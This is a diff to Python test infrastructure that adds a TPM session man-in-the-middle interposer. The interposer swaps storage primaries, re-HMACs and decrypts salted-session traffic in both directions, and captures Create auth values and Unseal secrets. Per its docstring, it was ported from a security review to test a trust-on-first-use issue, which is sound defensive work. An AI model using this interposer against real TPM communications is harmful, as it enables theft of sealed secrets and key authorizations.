@@ -11,7 +11,10 @@ consistency check passes. Then ESAPI encrypts every session salt to it:
 * ``FullInterposer`` also terminates the salted session on both legs for
   TPM2_Unseal (re-salts to the real primary, re-HMACs the command, decrypts
   outData into ``stolen``, re-encrypts and re-HMACs the response), so the
-  agent's unseal *succeeds* while the interposer holds the secret.
+  agent's unseal *succeeds* while the interposer holds the secret;
+* ``SessionInterposer`` terminates every session salted to a swapped
+  primary (any command, both directions), so an agent that first starts
+  behind it works normally and pins the interposer's keys (issue 9).
 
 Ported from the review's proofs (/work/notes/review-tpmkeys-report.md).
 Test infrastructure only: threads are daemons joined with a timeout by
@@ -385,6 +388,227 @@ def interposer(target_tcti: str, full: bool = True) -> Iterator[Interposer]:
     """A started interposer (``FullInterposer`` unless not ``full``),
     stopped on exit whatever happens."""
     mitm = (FullInterposer if full else Interposer)(target_tcti).start()
+    try:
+        yield mitm
+    finally:
+        mitm.stop()
+
+
+# -- every salted session, both legs ------------------------------------------
+#
+# (cc: (handles in the command, how many of them need an authorization,
+# handles in the response)); a command outside this table with a session the
+# interposer terminated is relayed as it is (and fails its HMAC check).
+_COMMANDS = {
+    0x131: (1, 1, 1),  # CreatePrimary
+    0x153: (1, 1, 0),  # Create
+    0x157: (1, 1, 1),  # Load
+    0x14A: (2, 1, 0),  # CertifyCreation: signHandle only
+    0x148: (2, 2, 0),  # Certify
+    0x158: (1, 1, 0),  # Quote
+    0x154: (1, 1, 0),  # ECDH_ZGen
+    0x147: (2, 2, 0),  # ActivateCredential
+    0x15E: (1, 1, 0),  # Unseal
+    0x151: (2, 1, 0),  # PolicySecret
+    0x14E: (2, 1, 0),  # NV_Read
+    0x182: (1, 1, 0),  # PCR_Extend
+}
+CC_CERTIFY_CREATION, CC_FLUSH, CC_READ_PUBLIC = 0x14A, 0x165, 0x173
+_DECRYPT, _ENCRYPT = 0x20, 0x40
+_P256 = 0x0003
+
+
+class SessionInterposer(FullInterposer):
+    """The review's attacker in full: it terminates *every* session salted
+    to a storage primary it swapped, not only Unseal's. Each command in
+    such a session is re-HMACed for the TPM leg (over the real names of its
+    handles: the agent's cpHash has the swapped primary's name), a first
+    parameter the agent encrypted is decrypted and re-encrypted, and each
+    response is re-HMACed (and re-encrypted) for the agent's leg. The auth
+    values of the agent's keys come from their TPM2_Create (``recovered``),
+    so an agent that *first starts* behind it works normally, pins the
+    interposer's keys, and never notices (the trust-on-first-use case of
+    issue 9). ``certified``: the names TPM2_CertifyCreation was asked about
+    (the TPM's view, i.e. the real primaries')."""
+
+    def __init__(self, target_tcti: str) -> None:
+        super().__init__(target_tcti)
+        self.fake_names: dict[int, bytes] = {}       # swapped handle -> name the agent sees
+        self.answered: set[bytes] = set()            # every swapped name it answered
+        self.auth_by_name: dict[bytes, bytes] = {}   # object name -> auth value
+        self.certified: list[bytes] = []
+        self._up: socket.socket | None = None
+        self._command: dict | None = None
+        self._create_auth: bytes | None = None
+
+    def _serve_data(self, client, up) -> None:
+        self._up = up
+        super()._serve_data(client, up)
+
+    def _swap_primary(self, rsp: bytes) -> bytes:
+        pub, _ = TPM2B_PUBLIC.unmarshal(rsp[18:])
+        if pub.publicArea.type == TPM2_ALG.ECC and \
+                pub.publicArea.parameters.eccDetail.curveID != _P256:
+            return rsp  # a P-384 EK: not a parent of the agent
+        out = super()._swap_primary(rsp)
+        (handle,) = struct.unpack_from(">I", rsp, 10)
+        if handle in self.swapped:
+            new, _ = TPM2B_PUBLIC.unmarshal(out[18:])
+            self.fake_names[handle] = b"\x00\x0b" + hashlib.sha256(
+                bytes(new.publicArea.marshal())).digest()
+            self.answered.add(self.fake_names[handle])
+        return out
+
+    # -- helpers --------------------------------------------------------------
+    def _real_name(self, handle: int) -> bytes:
+        if handle >> 24 != 0x80:
+            return struct.pack(">I", handle)
+        assert self._up is not None
+        self._up.sendall(struct.pack(">HIII", 0x8001, 14, CC_READ_PUBLIC, handle))
+        rsp = _recv_msg(self._up)
+        assert rsp is not None and struct.unpack_from(">I", rsp, 6)[0] == 0
+        _pub, p = _tpm2b(rsp, 10)
+        return _tpm2b(rsp, p)[0]
+
+    def _auth_of(self, name: bytes) -> bytes:
+        return self.auth_by_name.get(name, b"")
+
+    @staticmethod
+    def _parse_sessions(auth: bytes) -> list[dict]:
+        out, p = [], 0
+        while p < len(auth):
+            (h,) = struct.unpack_from(">I", auth, p)
+            nonce, p = _tpm2b(auth, p + 4)
+            attrs = auth[p]
+            mac, p = _tpm2b(auth, p + 1)
+            out.append({"handle": h, "nonce": nonce, "attrs": attrs, "hmac": mac})
+        return out
+
+    @staticmethod
+    def _cfb_param(key: bytes, nonce_a: bytes, nonce_b: bytes, params: bytes,
+                   encrypt: bool) -> bytes:
+        (n,) = struct.unpack_from(">H", params, 0)
+        kiv = kdfa(key, b"CFB", nonce_a, nonce_b, 256)
+        return params[:2] + _cfb(kiv, params[2:2 + n], encrypt) + params[2 + n:]
+
+    # -- commands -------------------------------------------------------------
+    def _on_command(self, cmd: bytes) -> bytes:
+        tag, _size, cc = struct.unpack_from(">HII", cmd, 0)
+        if cc == CC_FLUSH:
+            (h,) = struct.unpack_from(">I", cmd, 10)
+            self.swapped.discard(h)
+            self.fake_names.pop(h, None)
+        if cc == CC_START_AUTH_SESSION:
+            return super()._on_command(cmd)
+        self._command = None
+        if tag == 0x8002 and cc in _COMMANDS:
+            try:
+                return self._translate_command(cc, cmd)
+            except Exception as exc:  # keep relaying whatever happens
+                self.recovered.append({"error": repr(exc)})
+        return cmd
+
+    def _translate_command(self, cc: int, cmd: bytes) -> bytes:
+        n_handles, n_auth, n_out = _COMMANDS[cc]
+        handles = list(struct.unpack_from(">%dI" % n_handles, cmd, 10))
+        off = 10 + 4 * n_handles
+        (auth_size,) = struct.unpack_from(">I", cmd, off)
+        sessions = self._parse_sessions(cmd[off + 4:off + 4 + auth_size])
+        params = cmd[off + 4 + auth_size:]
+        if not any(s["handle"] in self.sessions for s in sessions):
+            return cmd
+        real = [self._real_name(h) for h in handles]
+        fake = [self.fake_names.get(h, r) for h, r in zip(handles, real, strict=True)]
+        if cc == CC_CERTIFY_CREATION:
+            self.certified.append(real[1])
+        auths = [self._auth_of(real[i]) if i < n_auth else b"" for i in range(len(sessions))]
+        tpm_params = params
+        for s, auth in zip(sessions, auths, strict=True):
+            st = self.sessions.get(s["handle"])
+            if st is not None and s["attrs"] & _DECRYPT:
+                plain = self._cfb_param(st["key"] + auth, s["nonce"], st["nonce_tpm"],
+                                        params, False)
+                if cc == CC_CREATE:
+                    user_auth, _p = _tpm2b(plain, 2)
+                    self._create_auth = user_auth
+                    self.recovered.append({"userAuth": user_auth})
+                tpm_params = self._cfb_param(st["key_tpm"] + auth, s["nonce"],
+                                             st["nonce_tpm"], plain, True)
+        cp_hash = hashlib.sha256(struct.pack(">I", cc) + b"".join(real) + tpm_params).digest()
+        agent_cp = hashlib.sha256(struct.pack(">I", cc) + b"".join(fake) + params).digest()
+        area = b""
+        for s, auth in zip(sessions, auths, strict=True):
+            st = self.sessions.get(s["handle"])
+            mac = s["hmac"]
+            if st is not None:
+                tail = s["nonce"] + st["nonce_tpm"] + bytes([s["attrs"]])
+                assert hmac.compare_digest(
+                    mac, hmac.new(st["key"] + auth, agent_cp + tail, hashlib.sha256).digest())
+                mac = hmac.new(st["key_tpm"] + auth, cp_hash + tail, hashlib.sha256).digest()
+            area += (struct.pack(">I", s["handle"]) + struct.pack(">H", len(s["nonce"]))
+                     + s["nonce"] + bytes([s["attrs"]]) + struct.pack(">H", len(mac)) + mac)
+        body = (cmd[10:off] + struct.pack(">I", len(area)) + area + tpm_params)
+        self._command = {"cc": cc, "sessions": sessions, "auths": auths, "n_out": n_out}
+        return struct.pack(">HII", 0x8002, 10 + len(body), cc) + body
+
+    # -- responses ------------------------------------------------------------
+    def _on_response(self, cmd: bytes, rsp: bytes) -> bytes:
+        (cc,) = struct.unpack_from(">I", cmd, 6)
+        command, self._command = self._command, None
+        (rc,) = struct.unpack_from(">I", rsp, 6)
+        if command is None or rc != 0:
+            return super()._on_response(cmd, rsp)
+        try:
+            return self._translate_response(cc, command, rsp)
+        except Exception as exc:
+            self.recovered.append({"error": repr(exc)})
+            return rsp
+
+    def _translate_response(self, cc: int, command: dict, rsp: bytes) -> bytes:
+        off = 10 + 4 * command["n_out"]
+        (param_size,) = struct.unpack_from(">I", rsp, off)
+        params = rsp[off + 4:off + 4 + param_size]
+        auth = rsp[off + 4 + param_size:]
+        p, replies = 0, []
+        for _s in command["sessions"]:
+            nonce, p = _tpm2b(auth, p)
+            attrs = auth[p]
+            mac, p = _tpm2b(auth, p + 1)
+            replies.append((nonce, attrs, mac))
+        agent_params = params
+        for s, a, (nonce, _attrs, _mac) in zip(command["sessions"], command["auths"],
+                                               replies, strict=True):
+            st = self.sessions.get(s["handle"])
+            if st is not None and s["attrs"] & _ENCRYPT:
+                plain = self._cfb_param(st["key_tpm"] + a, nonce, s["nonce"], params, False)
+                if cc == CC_UNSEAL:
+                    self.stolen.append(_tpm2b(plain, 0)[0])
+                agent_params = self._cfb_param(st["key"] + a, nonce, s["nonce"], plain, True)
+        rp_hash = hashlib.sha256(struct.pack(">II", 0, cc) + agent_params).digest()
+        area = b""
+        for s, a, (nonce, attrs, mac) in zip(command["sessions"], command["auths"], replies,
+                                             strict=True):
+            st = self.sessions.get(s["handle"])
+            if st is not None:
+                mac = hmac.new(st["key"] + a, rp_hash + nonce + s["nonce"] + bytes([attrs]),
+                               hashlib.sha256).digest()
+                st["nonce_tpm"] = nonce
+            area += struct.pack(">H", len(nonce)) + nonce + bytes([attrs]) + \
+                struct.pack(">H", len(mac)) + mac
+        if cc == CC_CREATE and self._create_auth is not None:
+            _priv, q = _tpm2b(agent_params, 0)
+            public, _q = _tpm2b(agent_params, q)
+            self.auth_by_name[b"\x00\x0b" + hashlib.sha256(public).digest()] = \
+                self._create_auth
+            self._create_auth = None
+        body = rsp[10:off] + struct.pack(">I", len(agent_params)) + agent_params + area
+        return struct.pack(">HII", 0x8002, 10 + len(body), 0) + body
+
+
+@contextmanager
+def session_interposer(target_tcti: str) -> Iterator[SessionInterposer]:
+    """A started ``SessionInterposer``, stopped on exit whatever happens."""
+    mitm = SessionInterposer(target_tcti).start()
     try:
         yield mitm
     finally:
